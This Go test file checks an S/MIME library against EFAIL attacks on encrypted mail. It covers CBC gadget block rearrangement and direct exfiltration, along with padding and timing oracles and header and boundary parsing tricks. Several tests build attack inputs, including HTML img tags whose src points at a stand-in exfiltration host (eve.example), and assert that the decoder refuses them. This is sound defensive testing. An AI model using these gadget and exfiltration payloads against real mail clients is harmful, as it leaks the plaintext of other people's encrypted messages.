package smime

import (
	"bytes"
	"crypto"
	"encoding/asn1"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"carepost/cms"
)

// blocks is a captured message whose CBC ciphertext can be rearranged, as somebody on the way can who has no key.
type blocks struct {
	cms    []byte // all of it
	iv, ct int    // where they begin
	n      int    // octets of ciphertext, in one segment
}

// captured seals a letter and finds IV and ciphertext in it.
func captured(t *testing.T, entity string) blocks {
	t.Helper()
	der := cmsOf(envelope(t, entity))
	i := bytes.Index(der, []byte("\x60\x86\x48\x01\x65\x03\x04\x01\x02\x04\x10"))
	if i < 0 {
		t.Fatal("no IV")
	}
	b := blocks{cms: der, iv: i + 11}
	at := b.iv + 16 + 2 // [0] of indefinite length
	var seg asn1.RawValue
	if _, err := asn1.Unmarshal(der[at:len(der)-10], &seg); err != nil && seg.Tag != 4 {
		head := int64(der[at+2])<<8 | int64(der[at+3])
		seg.Bytes = der[at+4 : at+4+int(head)]
	}
	b.n = len(seg.Bytes)
	b.ct = bytes.Index(der, seg.Bytes)
	return b
}

func (b blocks) block(i int) []byte { // -1 is the IV
	if i < 0 {
		return b.cms[b.iv : b.iv+16]
	}
	return b.cms[b.ct+16*i : b.ct+16*i+16]
}

func (b blocks) count() int { return b.n / 16 }

// with is the message with another IV and other blocks.
func (b blocks) with(iv []byte, ct ...[]byte) []byte {
	text := bytes.Join(ct, nil)
	var out bytes.Buffer
	out.WriteString("From: alice@clinic.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n")
	out.Write(b.cms[:b.iv])
	out.Write(iv)
	out.Write(b.cms[b.iv+16 : b.iv+18])
	for len(text) > 0 {
		n := min(len(text), 0xfff0)
		out.Write([]byte{4, 0x82, byte(n >> 8), byte(n)})
		out.Write(text[:n])
		text = text[n:]
	}
	out.Write(make([]byte, 10))
	return out.Bytes()
}

func (b blocks) all() (all [][]byte) {
	for i := range b.count() {
		all = append(all, b.block(i))
	}
	return all
}

func xored(a, b, c []byte) []byte {
	out := make([]byte, 16)
	for i := range out {
		out[i] = a[i] ^ b[i] ^ c[i]
	}
	return out
}

// refused wants that nothing comes of a message: an error, or no good signature. An error of what is not signed says nothing more.
func refused(t *testing.T, what string, in []byte) {
	t.Helper()
	if got, o, err := openBob(in); err == nil && len(o.Good()) > 0 {
		t.Errorf("%s: opened with a good signature: %.80q", what, got)
	}
}

// ATT-02, "EFAIL CBC gadgets": who knows one block of the plaintext (here the first, it is the same in all mail) can write every second
// block himself, and put others from anywhere in the message between them. No such message has a good signature over it, nor does one
// whose IV or blocks are changed, left out, doubled, or moved; and garbage around the signed part, where no signature can see it, is
// refused as well.
func TestEFAILGadgets(t *testing.T) {
	part := "Content-Type: message/rfc822\r\n\r\n" + strings.Replace(letter, "all is well.", strings.Repeat("the patient is well and is told so\r\n", 40), 1)
	entity := multipartSigned(part, signedBy(t, part, newWorld().alice.signer()))
	b := captured(t, entity)
	iv, all := b.block(-1), b.all()
	if got, o, err := openBob(b.with(iv, all...)); err != nil || len(o.Good()) != 1 || !strings.Contains(got, "told so") {
		t.Fatalf("unchanged: %v", err)
	}
	known := []byte(entity[:16])
	chosen := func(s string) [][]byte { // two blocks, of which the second decrypts to s
		return [][]byte{xored(iv, known, []byte(s)), all[0]}
	}
	insert := func(at int, more ...[]byte) []byte { return b.with(iv, slices.Concat(all[:at], more, all[at:])...) }

	exfiltration := slices.Concat(chosen("\r\n\r\n<img ignore='"), chosen("' src=https://ev"), chosen("e.example/?x='  "))
	refused(t, "an image before everything", b.with(xored(iv, known, []byte("Content-Type: te")), slices.Concat(all[:1], exfiltration, all)...))
	refused(t, "text/html by the IV", b.with(xored(iv, known, []byte("Content-Type: te")), all...))
	flip := slices.Clone(iv)
	for i := range 128 {
		flip[i/8] ^= 1 << (i % 8)
		if i%8 != 5 { // that bit makes a capital of a letter, and a type has no case
			refused(t, fmt.Sprintf("bit %d of the IV", i), b.with(flip, all...))
		}
		flip[i/8] ^= 1 << (i % 8)
	}
	for i := 0; i < len(all); i += stride(3) {
		refused(t, fmt.Sprintf("gadget at %d", i), insert(i, exfiltration...))
		if i%stride(7) != 0 {
			continue
		}
		refused(t, fmt.Sprintf("block %d twice", i), insert(i, all[i]))
		refused(t, fmt.Sprintf("without block %d", i), b.with(iv, slices.Concat(all[:i], all[i+1:])...))
		refused(t, fmt.Sprintf("secret copied to %d", i), insert(i, all[30], all[31]))
		refused(t, fmt.Sprintf("block %d noise", i), b.with(iv, slices.Concat(all[:i], [][]byte{bytes.Repeat([]byte{byte(i)}, 16)}, all[i+1:])...))
	}
}

// ATT-02, ATT-06: what stands around the signed part and is not signed must be plain text: of a block that somebody without the key
// put there not even the answer tells what it decrypts to. Text is dropped, as RFC 2046 wants it.
func TestNoiseAroundTheSignedPart(t *testing.T) {
	part := "Content-Type: message/rfc822\r\n\r\n" + letter
	good := multipartSigned(part, signedBy(t, part, newWorld().alice.signer()))
	noise := "\x00\x93\xfe\x01sixteen\xff\x80\x1b\x0e\x7f"
	for name, in := range map[string]string{
		"in the preamble":             strings.Replace(good, "\r\n\r\n--=_b", "\r\n\r\n"+noise+"\r\n--=_b", 1),
		"in the preamble, one octet":  strings.Replace(good, "\r\n\r\n--=_b", "\r\n\r\nhello \xe9\r\n--=_b", 1),
		"a long preamble":             strings.Replace(good, "\r\n\r\n--=_b", "\r\n\r\n"+strings.Repeat("This is S/MIME.\r\n", 1000)+"\r\n--=_b", 1),
		"in a field of the entity":    "X-Noise: sixteen\x93\xfe\x01\xff\x80\x1b\r\n" + good,
		"behind the type":             strings.Replace(good, "micalg=sha-256", "micalg=\"sha-256,\x93\xfe\x01\xff\"", 1),
		"in a field of the signature": strings.Replace(good, "Content-Type: application/pkcs7-signature", "X-Noise: \x93\xfe\x01\xff\r\nContent-Type: application/pkcs7-signature", 1),
		"in the epilogue":             good + noise,
	} {
		if _, o, err := openBob(envelope(t, in)); err != ErrDecrypt {
			t.Errorf("%s: %v, opened: %v", name, err, o != nil)
		}
	}
	for name, in := range map[string]string{
		"a preamble":             strings.Replace(good, "\r\n\r\n--=_b", "\r\n\r\nThis is an S/MIME signed message\r\n\r\n--=_b", 1),
		"an epilogue":            good + "footer\r\n",
		"a field of the entity":  "X-Mailer: Some Mailer 1.0\r\n" + good,
		"a field beside the p7s": strings.Replace(good, "Content-Type: application/pkcs7-signature", "Content-Description: S/MIME Cryptographic Signature\r\nContent-Type: application/pkcs7-signature", 1),
	} {
		if got, o, err := openBob(envelope(t, in)); err != nil || len(o.Good()) != 1 || got != letter {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// ATT-01, "EFAIL direct exfiltration": nothing is decrypted that is not the one outermost body, whatever stands beside it. DIR-12.
func TestEFAILDirect(t *testing.T) {
	_, body, _ := strings.Cut(string(seal(t, letter)), "\r\n\r\n")
	p7m := "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
	html := "Content-Type: text/html\r\n\r\n<img src=\"https://eve.example/?"
	multi := func(kind string, parts ...string) string {
		return "From: alice@clinic.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/" + kind + "; boundary=e\r\n\r\n--e\r\n" + strings.Join(parts, "\r\n--e\r\n") + "\r\n--e--\r\n"
	}
	asked := &counting{}
	for _, kind := range []string{"mixed", "alternative", "related; start=x", "signed; protocol=\"application/pkcs7-signature\"", "report", "digest", "encrypted"} {
		for name, in := range map[string]string{
			"between HTML":     multi(kind, html, p7m, "Content-Type: text/html\r\n\r\n\">"),
			"before HTML":      multi(kind, p7m, html),
			"after HTML":       multi(kind, html, p7m),
			"alone":            multi(kind, p7m),
			"twice":            multi(kind, p7m, p7m),
			"nested":           multi(kind, "Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n"+p7m+"\r\n--f--\r\n"),
			"in a message":     multi(kind, "Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n"+p7m),
			"in the preamble":  strings.Replace(multi(kind, html), "\r\n\r\n--e", "\r\n\r\n"+p7m+"\r\n--e", 1),
			"in the epilogue":  multi(kind, html) + p7m,
			"outside a header": "Content-Type: multipart/" + kind + "; boundary=e\r\n" + p7m,
		} {
			var dst bytes.Buffer
			_, err := Open(&dst, strings.NewReader(in), []cms.Recipient{asked.of(newWorld().bob)}, OpenOptions{})
			if err == nil || dst.Len() > 0 || asked.n > 0 {
				t.Errorf("%s, %s: %v, %d octets, %d private operations", kind, name, err, dst.Len(), asked.n)
			}
		}
	}
}

// counting counts private operations.
type counting struct {
	crypto.Decrypter
	n int
}

func (c *counting) of(p person) cms.Recipient {
	c.Decrypter = p.key.(crypto.Decrypter)
	return cms.Recipient{Certificate: p.cert, Key: c}
}

func (c *counting) Decrypt(r io.Reader, msg []byte, o crypto.DecrypterOpts) ([]byte, error) {
	c.n++
	return c.Decrypter.Decrypt(r, msg, o)
}

// tally counts the octets that are read.
type tally struct {
	r io.Reader
	n int
}

func (c *tally) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

// ATT-04, ATT-05, ATT-06: whatever is wrong inside, the message is read to its end, after one private operation; what would help to find
// out the plaintext has one error, and nothing beside it.
func TestSameWork(t *testing.T) {
	part := "Content-Type: message/rfc822\r\n\r\n" + letter + strings.Repeat("a line of text that is signed, or is not\r\n", 40_000)
	text := signedBy(t, part, newWorld().alice.signer())
	good := multipartSigned(part, text)
	b := captured(t, multipartSigned("Content-Type: message/rfc822\r\n\r\n"+letter, text))
	last := slices.Clone(b.block(b.count() - 2))
	last[15] ^= 0x20
	wrong := "Content-Type: text/plain\r\n\r\n" + strings.Repeat("x", len(good)-30)
	for name, in := range map[string][]byte{
		"good":                    envelope(t, good),
		"bad padding":             b.with(b.block(-1), slices.Concat(b.all()[:b.count()-2], [][]byte{last, b.block(b.count() - 1)})...),
		"noise":                   b.with(b.block(3), slices.Concat(b.all()[5:], b.all()[:5])...),
		"not signed":              envelope(t, wrong),
		"no header":               envelope(t, strings.Repeat("\x80\xff", len(good)/2)),
		"two types":               envelope(t, "Content-Type: text/plain\r\n"+good),
		"a third part":            envelope(t, strings.Replace(good, "\r\n--=_b--", "\r\n--=_b\r\n\r\nx\r\n--=_b--", 1)),
		"no base64 in the p7s":    envelope(t, strings.Replace(good, text[:4], "!!!!", 1)),
		"a closed boundary":       envelope(t, strings.Replace(good, "Dear Bob", "--=_b--\r\nDear Bob", 1)),
		"a huge inner header":     envelope(t, strings.Repeat("X: y\r\n", 100_000)+good),
		"a delimiter that is not": envelope(t, strings.Replace(good, "Dear Bob", "--=_bother", 1)),
	} {
		src := &tally{r: bytes.NewReader(in)}
		k := &counting{}
		_, err := Open(io.Discard, src, []cms.Recipient{k.of(newWorld().bob)}, OpenOptions{})
		if (err == nil) != (name == "good") {
			t.Errorf("%s: %v", name, err)
		}
		if src.n != len(in) || k.n != 1 {
			t.Errorf("%s: %d of %d octets read, %d private operations: %v", name, src.n, len(in), k.n, err)
		}
	}
}

// ATT-27: fields in encoded words, doubled, folded, ended by CR or by LF alone: what readers would read in two ways is refused; every
// structural field is the one and only.
func TestHeaderTricks(t *testing.T) {
	sealed := string(seal(t, letter))
	head, body, _ := strings.Cut(sealed, "\r\n\r\n")
	typ := "Content-Type: application/pkcs7-mime; smime-type=enveloped-data;\r\n name=\"smime.p7m\""
	if !strings.Contains(head, typ) {
		t.Fatal("the outer header changed")
	}
	for name, new := range map[string]string{
		"type in an encoded word":     "Content-Type: =?us-ascii?Q?application/pkcs7-mime?=",
		"type twice":                  typ + "\r\n" + typ,
		"type twice, other case":      typ + "\r\ncontent-type: text/plain",
		"type ended by CR":            "Content-Type: application/pkcs7-mime\rX: y",
		"type with a NUL":             "Content-Type: application/pkcs7-mime\x00",
		"white space before a colon":  "Content-Type : application/pkcs7-mime",
		"a line without a colon":      typ + "\r\nX-Y",
		"parameter twice":             "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; smime-type=enveloped-data",
		"parameter in two alphabets":  "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; smime-type*=us-ascii''signed-data",
		"parameter in pieces":         "Content-Type: application/pkcs7-mime; smime-type*0=signed; smime-type*1=-data",
		"encoding in an encoded word": typ + "\r\nContent-Transfer-Encoding: =?us-ascii?Q?base64?=",
		"encoding twice":              typ + "\r\nContent-Transfer-Encoding: base64",
	} {
		in := strings.Replace(head, typ, new, 1) + "\r\n\r\n" + body
		if head == strings.Replace(head, typ, new, 1) {
			t.Fatal(name)
		}
		if got, _, err := openBob([]byte(in)); err == nil || got != "" {
			t.Errorf("%s: %v, %.80q", name, err, got)
		}
	}
	part := "Content-Type: message/rfc822\r\n\r\n" + letter
	good := multipartSigned(part, signedBy(t, part, newWorld().alice.signer()))
	for name, boundary := range map[string]string{
		"in an encoded word": "boundary=\"=?us-ascii?Q?=3D_b?=\"", "twice": "boundary=\"=_b\"; boundary=\"=_c\"", "of another alphabet": "boundary*=us-ascii''=_b; boundary=\"=_c\"",
		"in pieces, and whole": "boundary*0=\"=_\"; boundary*1=b; boundary=x", "with a line end": "boundary=\"=_b\\\r\n \"", "empty": "boundary=\"\"", "with a NUL": "boundary=\"=_b\x00\"",
	} {
		in := strings.Replace(good, "boundary=\"=_b\"", boundary, 1)
		if in == good {
			t.Fatal("the boundary changed")
		}
		if _, o, err := openBob(envelope(t, in)); err == nil {
			t.Errorf("boundary %s: opened, %d signatures good", name, len(o.Good()))
		}
	}
}
